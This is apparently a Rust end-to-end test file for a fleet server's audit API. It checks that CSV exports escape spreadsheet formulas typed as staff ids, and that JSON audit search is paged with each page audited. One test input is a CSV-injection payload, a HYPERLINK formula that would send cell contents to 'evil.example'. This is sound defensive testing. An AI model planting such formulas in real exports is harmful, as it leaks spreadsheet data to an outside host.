//! What central hands out, attacked through the real process (issue 15, Low items): a staff id
//! typed at a counter as a spreadsheet formula reaches the auditor's CSV as text.

use e2e::http::Operator;
use e2e::uplink::{Session, agent_tls, lookup_event};
use e2e::{Pki, TestDb, await_events, https_endpoint, site_code, start_central};
use proto::fleet::v1 as pb;

/// A lookup event of `site` at `sequence` recorded by staff `staff_id`.
fn lookup_by(site: &str, sequence: u64, staff_id: &str) -> pb::Event {
    let mut event = lookup_event(site, sequence);
    if let Some(pb::event::Body::Lookup(lookup)) = event.body.as_mut() {
        lookup.staff_id = staff_id.to_string();
    }
    event
}

#[tokio::test(flavor = "multi_thread")]
async fn a_formula_typed_as_a_staff_id_reaches_the_audit_csv_as_text() -> anyhow::Result<()> {
    let site = site_code("131011006");
    let pki = Pki::new(&[&site])?;
    let db = TestDb::create().await?;
    let central = start_central(&pki, &db).await?;
    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"詳細\")";
    let mut agent = Session::open(
        &https_endpoint(&central, "grpc"),
        agent_tls(&pki, &site)?,
        &site,
        uuid::Uuid::now_v7(),
    )
    .await?;
    agent
        .send_batch(vec![
            lookup_by(&site, 1, formula),
            lookup_by(&site, 2, "@SUM(1+1)"),
            lookup_by(&site, 3, "S001"),
        ])
        .await?;
    await_events(&db, &site, "lookup", 3).await;

    let operator = Operator::new(&pki, &central);
    let (status, content_type, body) = operator
        .get_raw(&format!("/api/v1/audit/events?site={site}&format=csv"))
        .await?;
    assert_eq!(status, 200, "{}", String::from_utf8_lossy(&body));
    assert!(content_type.starts_with("text/csv"), "{content_type}");
    let mut reader = csv::ReaderBuilder::new().from_reader(&body[3..]);
    let staff_column = reader
        .headers()?
        .iter()
        .position(|h| h.contains("staff_id"))
        .expect("a staff_id column");
    let mut staff: Vec<String> = reader
        .records()
        .map(|r| r.map(|r| r[staff_column].to_string()))
        .collect::<Result<_, _>>()?;
    staff.sort();
    assert_eq!(
        staff,
        vec![format!("'{formula}"), "'@SUM(1+1)".into(), "S001".into()]
    );
    Ok(())
}

/// The JSON audit search hands out who looked up whom like an export does, so each page is
/// audited; and it comes a page at a time (at most 1000 events, the next page linked), so no
/// search holds a whole period in central's memory.
#[tokio::test(flavor = "multi_thread")]
async fn the_json_audit_search_is_paged_and_each_page_audited() -> anyhow::Result<()> {
    let site = site_code("131011008");
    let pki = Pki::new(&[&site])?;
    let db = TestDb::create().await?;
    let central = start_central(&pki, &db).await?;
    let mut agent = Session::open(
        &https_endpoint(&central, "grpc"),
        agent_tls(&pki, &site)?,
        &site,
        uuid::Uuid::now_v7(),
    )
    .await?;
    agent
        .send_batch((1..=5).map(|n| lookup_by(&site, n, "S001")).collect())
        .await?;
    await_events(&db, &site, "lookup", 5).await;

    let operator = Operator::new(&pki, &central);
    let (status, _, error) = operator
        .get_linked(&format!("/api/v1/audit/events?site={site}&limit=5000"))
        .await?;
    assert_eq!(status, 400, "a JSON page of 5000: {error}");

    let mut next = Some(format!("/api/v1/audit/events?site={site}&limit=2"));
    let mut sequences = Vec::new();
    let mut pages = 0;
    while let Some(path) = next.take() {
        let (status, link, page) = operator.get_linked(&path).await?;
        assert_eq!(status, 200, "{page}");
        pages += 1;
        sequences.extend(
            page.as_array()
                .unwrap()
                .iter()
                .map(|e| e["sequence"].as_i64().unwrap()),
        );
        next = link.map(|l| {
            l.trim_start_matches('<')
                .split_once('>')
                .expect("<path>; rel=\"next\"")
                .0
                .to_string()
        });
        assert!(pages <= 3, "five events in pages of two: {sequences:?}");
    }
    assert_eq!(sequences, vec![1, 2, 3, 4, 5]);
    let audited: i64 = db
        .client()
        .await?
        .query_one(
            "SELECT count(*) FROM security_events
             WHERE kind = 'audit_export' AND detail LIKE 'audit search JSON%'",
            &[],
        )
        .await?
        .get(0);
    assert_eq!(audited, 3, "each page is audited");
    Ok(())
}
